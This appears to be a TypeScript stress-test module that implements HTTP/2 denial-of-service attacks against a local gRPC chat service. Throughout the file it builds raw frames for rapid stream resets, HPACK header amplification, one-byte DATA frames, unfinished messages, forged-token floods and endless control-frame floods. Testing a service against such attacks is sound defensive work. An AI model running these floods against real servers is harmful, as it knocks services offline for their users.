import { setTimeout as sleep } from "node:timers/promises";
import {
  flags,
  frame,
  frameTypes,
  headerBlock,
  preface,
  windowUpdate,
} from "../load/http2-frames.js";
import type { Attack, Target } from "./attack.js";
import { type AttackerSocket, onConnections, untilEnded } from "./attacker-socket.js";
import { SendWindows } from "./send-windows.js";

const service = "/chatter.v1.ChatterService";
const emptyMessage = Buffer.alloc(5);
const priorityFrame = 2;
const unknownFrame = 99;

/** Frames without end. */
type Frames = Generator<Buffer, never>;

/** Frames as fast as the server reads them, on four connections. */
function flood(
  name: string,
  title: string,
  frames: (target: Target) => Frames,
  withToken = false,
): Attack {
  return {
    name,
    title,
    withToken,
    run: (target, signal) =>
      onConnections(4, target.port, signal, async (socket) => {
        await begin(socket);
        const source = frames(target);
        while (!socket.ended && !signal.aborted) {
          const batch = Array.from({ length: 500 }, () => source.next().value);
          await socket.write(Buffer.concat(batch));
        }
      }),
  };
}

/** Opens many streams, waits until they are answered, and resets all of them in one write. */
function resets(
  name: string,
  title: string,
  path: string,
  count: number,
  withToken: boolean,
): Attack {
  return {
    name,
    title,
    withToken,
    run: (target, signal) =>
      onConnections(1, target.port, signal, async (socket) => {
        await begin(socket);
        const block = blockOf(path, withToken ? target.token : undefined);
        const ids = Array.from({ length: count }, (_, i) => 2 * i + 1);
        for (const id of ids) {
          if (id % 200 === 1) {
            await sleep(1);
          }
          await socket.write(
            Buffer.concat([headers(id, block), data(id, emptyMessage, flags.endStream)]),
          );
          if (socket.ended || signal.aborted) {
            return;
          }
        }
        await sleep(300, undefined, { signal }).catch(() => {});
        const cancel = Buffer.of(0, 0, 0, 8);
        await socket.write(
          Buffer.concat(ids.map((id) => frame(frameTypes.rstStream, 0, id, cancel))),
        );
        await Promise.race([untilEnded(socket, signal), sleep(500)]);
      }),
  };
}

/** Messages that are never complete, in DATA frames of one byte, on 1,000 streams. */
function oneByteFrames(
  name: string,
  title: string,
  method: string,
  size: number,
  withToken: boolean,
): Attack {
  const streams = 1000;
  return {
    name,
    title,
    withToken,
    run: (target, signal) =>
      onConnections(1, target.port, signal, async (socket) => {
        await begin(socket);
        const block = blockOf(`${service}/${method}`, withToken ? target.token : undefined);
        const ids = Array.from({ length: streams }, (_, i) => 2 * i + 1);
        for (const id of ids) {
          await socket.write(Buffer.concat([headers(id, block), data(id, announced(size))]));
        }
        await sleep(1000, undefined, { signal }).catch(() => {});
        const round = Buffer.concat(ids.map((id) => data(id, Buffer.of(97))));
        for (let sent = 0; sent < size - 1 && !socket.ended && !signal.aborted; sent++) {
          await socket.write(round);
        }
      }),
  };
}

/** Streams, each with a message of 512 KiB that lacks its last byte. */
const unfinishedMessages: Attack = {
  name: "unfinished-messages",
  title: "400 posting streams, each with a message of 512 KiB that lacks its last byte",
  withToken: true,
  run: (target, signal) =>
    onConnections(1, target.port, signal, async (socket) => {
      const windows = new SendWindows();
      socket.onData((bytes) => windows.take(bytes));
      await begin(socket, false);
      const block = blockOf(`${service}/Listener`, target.token);
      const size = 512 * 1024;
      for (let id = 1; id < 800 && !socket.ended && !signal.aborted; id += 2) {
        await socket.write(Buffer.concat([headers(id, block), data(id, announced(size))]));
        windows.use(id, 5);
        for (let left = size - 1; left > 0 && !socket.ended && !signal.aborted; ) {
          const bytes = Math.min(left, 16_000, windows.left(id));
          if (bytes <= 0) {
            await sleep(5, undefined, { signal }).catch(() => {});
            continue;
          }
          await socket.write(data(id, Buffer.alloc(bytes, 97)));
          windows.use(id, bytes);
          left -= bytes;
        }
      }
      await untilEnded(socket, signal);
    }),
};

/** One user posts on 8 connections as fast as flow control lets it, and has 300 subscribers. */
const postingFlood: Attack = {
  name: "posting-flood",
  title: "8 posting streams of one user as fast as they can, and 300 subscribers",
  withToken: true,
  run: async (target, signal) => {
    const subscribe = onConnections(1, target.port, signal, async (socket) => {
      await begin(socket);
      await socket.write(windowUpdate(0, 2 ** 30));
      const block = blockOf(`${service}/Subscribe`, target.token);
      for (let id = 1; id < 600; id += 2) {
        await socket.write(
          Buffer.concat([
            headers(id, block),
            data(id, emptyMessage, flags.endStream),
            windowUpdate(id, 2 ** 30),
          ]),
        );
      }
      await untilEnded(socket, signal);
    });
    const text = Buffer.concat([Buffer.of(0, 0, 0, 0, 102, 10, 100), Buffer.alloc(100, 97)]);
    const posts = Buffer.concat(Array<Buffer>(100).fill(text));
    const post = onConnections(8, target.port, signal, async (socket) => {
      const windows = new SendWindows();
      socket.onData((bytes) => windows.take(bytes));
      await begin(socket, false);
      await socket.write(headers(1, blockOf(`${service}/Listener`, target.token)));
      while (!socket.ended && !signal.aborted) {
        if (windows.left(1) < posts.length) {
          await sleep(2, undefined, { signal }).catch(() => {});
          continue;
        }
        windows.use(1, posts.length);
        await socket.write(data(1, posts));
      }
    });
    await Promise.all([subscribe, post]);
  },
};

/** If-None-Match, named again and again by its index in HPACK's table. */
function* blanks(): Frames {
  const get = headerBlock({ ":method": "GET", ":authority": "localhost", ":path": "/" }).subarray(
    1,
  );
  const name = Buffer.from("if-none-match");
  const value = Buffer.from(`a${" ".repeat(3900)}b`);
  // A literal with incremental indexing; 3902 as an integer with a prefix of 7 bits.
  const indexed = Buffer.concat([
    Buffer.of(0x40, name.length),
    name,
    Buffer.of(127, ((3902 - 127) & 127) | 128, (3902 - 127) >> 7),
    value,
  ]);
  const ending = flags.endHeaders | flags.endStream;
  yield frame(frameTypes.headers, ending, 1, Buffer.concat([get, indexed]));
  const again = Buffer.concat([get, Buffer.of(0x80 | 62, 0x80 | 62, 0x80 | 62, 0x80 | 62)]);
  for (let id = 3; ; id += 2) {
    yield frame(frameTypes.headers, ending, id, again);
  }
}

function* requests(block: Buffer): Frames {
  for (let id = 1; ; id += 2) {
    yield headers(id, block, flags.endStream);
  }
}

function* calls(block: Buffer): Frames {
  for (let id = 1; ; id += 2) {
    yield headers(id, block);
    yield data(id, emptyMessage, flags.endStream);
  }
}

/** Calls, each followed by a frame that makes the server reset it. */
function* madeToReset(block: Buffer, fault: (id: number) => Buffer): Frames {
  for (let id = 1; ; id += 2) {
    yield headers(id, block);
    yield data(id, emptyMessage, flags.endStream);
    yield fault(id);
  }
}

function* always(bytes: Buffer): Frames {
  for (;;) {
    yield bytes;
  }
}

const watch = "/grpc.health.v1.Health/Watch";
const health = () => blockOf("/grpc.health.v1.Health/Check");
const subscription = ({ token }: Target) => blockOf(`${service}/Subscribe`, token);

export const http2Attacks: readonly Attack[] = [
  resets("resets", "1,500 streams of one connection, reset in one write", watch, 1500, false),
  resets(
    "resets-token",
    "5,000 subscriptions of one connection, reset in one write",
    `${service}/Subscribe`,
    5000,
    true,
  ),
  flood("if-none-match", "`If-None-Match` of 4 KB of blanks, by HPACK's table", blanks),
  oneByteFrames(
    "one-byte-login",
    "1,000 logins in DATA frames of one byte",
    "Login",
    16_000,
    false,
  ),
  oneByteFrames(
    "one-byte-posts",
    "1,000 posts in DATA frames of one byte",
    "Listener",
    500_000,
    true,
  ),
  flood("probes", "`GET /livez` without end", () => requests(getBlock("/livez"))),
  flood("health", "gRPC health checks without end", () => calls(health())),
  flood("empty-logins", "logins without a message, without end", () =>
    requests(blockOf(`${service}/Login`)),
  ),
  flood("forged-tokens", "subscriptions with a forged token, without end", ({ token }) =>
    calls(blockOf(`${service}/Subscribe`, `${token.slice(0, -4)}AAAA`)),
  ),
  flood("window-updates", "WINDOW_UPDATE without end", () => always(windowUpdate(0, 1))),
  flood("priorities", "PRIORITY without end", () =>
    always(frame(priorityFrame, 0, 1, Buffer.of(0, 0, 0, 0, 16))),
  ),
  flood("unknown-frames", "frames of an unknown type without end", () =>
    always(frame(unknownFrame, 0, 0)),
  ),
  flood(
    "made-to-reset",
    "subscriptions that the server is made to reset, without end",
    (target) => madeToReset(subscription(target), (id) => windowUpdate(id, 0)),
    true,
  ),
  unfinishedMessages,
  postingFlood,
];

async function begin(socket: AttackerSocket, drain = true): Promise<void> {
  if (drain) {
    socket.drain();
  }
  await socket.write(
    Buffer.concat([
      preface,
      frame(frameTypes.settings, 0, 0),
      frame(frameTypes.settings, flags.ack, 0),
    ]),
  );
}

function blockOf(path: string, token?: string): Buffer {
  return headerBlock({
    ":path": path,
    ":authority": "localhost",
    te: "trailers",
    "content-type": "application/grpc",
    ...(token && { authorization: `Bearer ${token}` }),
  });
}

/** The headers of a GET. */
function getBlock(path: string): Buffer {
  // The first byte of every header block is POST, from HPACK's own table.
  return headerBlock({ ":method": "GET", ":authority": "localhost", ":path": path }).subarray(1);
}

function headers(id: number, block: Buffer, flag = 0): Buffer {
  return frame(frameTypes.headers, flags.endHeaders | flag, id, block);
}

function data(id: number, bytes: Uint8Array, flag = 0): Buffer {
  return frame(frameTypes.data, flag, id, bytes);
}

/** The prefix of a message of this many bytes. */
function announced(bytes: number): Buffer {
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(bytes, 1);
  return prefix;
}
